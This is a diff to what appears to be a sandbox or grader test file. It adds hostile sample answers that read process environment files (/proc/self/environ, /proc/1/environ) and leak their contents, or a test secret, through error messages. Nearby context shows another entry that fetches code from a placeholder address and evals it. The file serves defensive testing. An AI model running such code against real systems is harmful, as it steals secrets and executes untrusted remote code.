@@ -126,6 +126,16 @@ HOSTILE = {
         "for pid in os.listdir('/proc'):\n"
         "    if pid.isdigit() and int(pid) > 1: return open(f'/proc/{pid}/environ').read()"
     ),
+    "tells the teacher's environment": answer(
+        "import os\n"
+        "text = str(dict(os.environ)) + open('/proc/self/environ').read()\n"
+        "raise ValueError(text.replace(chr(0), ' ')[-400:] + open('/proc/1/environ').read()[-400:])"
+    ),
+    "looks for a secret": answer(
+        "import os\n"
+        "raise ValueError(f\"secret {os.environ.get('MINIFT_TEST_SECRET')}\" + str("
+        "'hunter' + str(2) in open('/proc/1/environ').read()))"
+    ),
     "network": answer(
         "import urllib.request\n"
         "return eval(urllib.request.urlopen('http://192.0.2.1/answer', timeout=3).read())"
